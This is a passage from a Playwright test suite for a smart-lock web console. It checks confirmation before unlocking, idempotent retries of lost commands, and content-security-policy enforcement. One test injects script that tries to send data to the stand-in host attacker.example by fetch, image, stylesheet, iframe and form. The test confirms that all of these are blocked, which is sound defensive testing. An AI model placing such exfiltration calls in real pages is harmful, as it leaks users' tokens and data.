        page.wait_for_timeout(1000)
        assert sent == [] and asked and "Garden gate" in asked[0], (sent, asked)
        answer[0] = "accept"
        card.locator(".unlock").click()
        expect(page.locator("#notice")).to_contain_text("unlock sent to Garden gate", timeout=15_000)
        card.locator(".lock-button").click()  # locking asks nothing
        expect(page.locator("#notice")).to_have_text("lock sent to Garden gate", timeout=15_000)
        browser.close()
    assert sent == ["unlock", "lock"] and len(asked) == 2, (sent, asked)


def test_a_command_whose_answer_was_lost_is_sent_again_as_itself(env: dict[str, str], chromium: str) -> None:
    """Attack run 108: each click sent a command with an idempotency key of its own, so a lock or unlock whose answer
    never came (the network dropped it after the function made it), clicked again, was a second command. Clicked
    again for the same lock and action, it carries the first's key (the function answers with the command made);
    once answered, the next click is a new command."""
    from playwright.sync_api import Route, expect, sync_playwright

    keys: list[str] = []

    def command(route: Route) -> None:
        keys.append(json.loads(route.request.post_data or "{}")["idempotency_key"])
        if len(keys) == 1:
            route.abort("connectionreset")  # made, perhaps: the page never hears
        else:
            route.fulfill(status=202, body="{}", headers={"Content-Type": "application/json"})

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "resend")
        page.route("**/devices/locks/*/commands", command)
        page.fill("#new-lock-name", "Back door")
        page.click("#new-lock-form button[type=submit]")
        card = page.locator(".lock").first
        expect(card).to_be_visible(timeout=15_000)
        card.locator(".lock-button").click()
        expect(page.locator("#notice")).to_have_attribute("data-kind", "error", timeout=15_000)
        lost = page.locator("#notice").text_content()
        card.locator(".lock-button").click()
        expect(page.locator("#notice")).to_have_text("lock sent to Back door", timeout=15_000)
        page.evaluate("document.querySelector('#notice').textContent = ''")
        card.locator(".lock-button").click()
        expect(page.locator("#notice")).to_have_text("lock sent to Back door", timeout=15_000)
        browser.close()
    assert len(keys) == 3 and keys[0] == keys[1] and keys[2] != keys[1], keys
    assert lost and "send it again" in lost, lost


#: kept by the page from its first script on: every request its security policy refused
_VIOLATIONS = """window.violations = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.violations.push(`${e.effectiveDirective} ${e.blockedURI}`));"""


def test_the_console_reaches_no_origin_but_its_own_and_the_firebase_apis(env: dict[str, str], chromium: str) -> None:
    """Attack run 105: the policy restricted scripts, plugins, <base> and framing only; text the page came to run or
    markup it came to hold could send what it read (a token, a pairing code) anywhere by fetch, an image, a style
    sheet or a form, and any frame it made could be given the microphone. Now nothing but the page's origin and the
    Firebase APIs (locally the emulators), the microphone for the page alone, and the page opened by no other's
    window. The page works under it: signing up, the live voice status and creating a lock refuse nothing."""
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        page.add_init_script(_VIOLATIONS)
        answer = page.goto(env["LOCKWISE_CONSOLE_URL"])
        assert answer is not None
        headers = answer.headers
        page.fill("#email", f"policy-{int(time.time() * 1000)}@example.com")
        page.fill("#password", "correct horse battery")
        page.click("#sign-up-button")
        expect(page.locator("#voice-status")).to_have_text("not enrolled", timeout=15_000)
        page.fill("#new-lock-name", "Porch")
        page.click("#new-lock-form button[type=submit]")
        expect(page.locator(".lock .pairing-code").first).not_to_be_empty(timeout=15_000)
        expect(page.locator(".lock .online").first).to_have_text("offline", timeout=15_000)  # the live view
        assert page.evaluate("window.violations") == []
        page.evaluate(
            """() => {
              fetch('https://attacker.example/t').catch(() => {});
              new Image().src = 'https://attacker.example/i';
              const css = document.createElement('link');
              css.rel = 'stylesheet';
              css.href = 'https://attacker.example/s.css';
              document.head.append(css);
              const frame = document.createElement('iframe');
              frame.src = 'https://attacker.example/f';
              document.body.append(frame);
              const form = document.createElement('form');
              form.action = 'https://attacker.example/p';
              form.method = 'post';
              document.body.append(form);
              form.submit();
            }"""
        )
        page.wait_for_timeout(1000)
        refused = {v.split(" ")[0] for v in page.evaluate("window.violations")}
        browser.close()
    assert {"connect-src", "img-src", "style-src-elem", "frame-src", "form-action"} <= refused, refused
    assert "microphone=(self)" in headers["permissions-policy"]
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert headers["cache-control"] == "no-cache"  # app.js has no hashed name: a fixed one is taken at once
